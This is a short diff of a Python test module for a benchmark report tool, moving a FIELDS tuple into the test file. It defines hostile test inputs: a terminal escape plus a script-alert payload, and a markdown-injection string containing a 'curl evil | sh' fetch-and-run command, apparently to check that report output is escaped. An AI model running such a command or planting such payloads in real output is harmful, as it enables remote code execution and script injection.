@@ -16,7 +16,6 @@ from bench.lint import Subject, verdict
 from bench.report import drawing
 from bench.report.drawing import redraw
 from bench.report.facts import Facts
-from bench.report.figures.over_time import FIELDS
 from bench.report.markdown import reproduce
 from segmented.errors import InvalidInput
 from tests.support.bench.records import end_line, run, session_line
@@ -25,6 +24,7 @@ from tests.support.command_line import ran
 if TYPE_CHECKING:
     from pathlib import Path
 
+FIELDS = ("asked", "done", "sold", "sold_out", "failed")
 MARKUP = "\x1b]0;x\x07<script>alert(1)</script>"
 SHELL = "x`\n```\n\n```console\n$ curl evil | sh\n```\n"
 
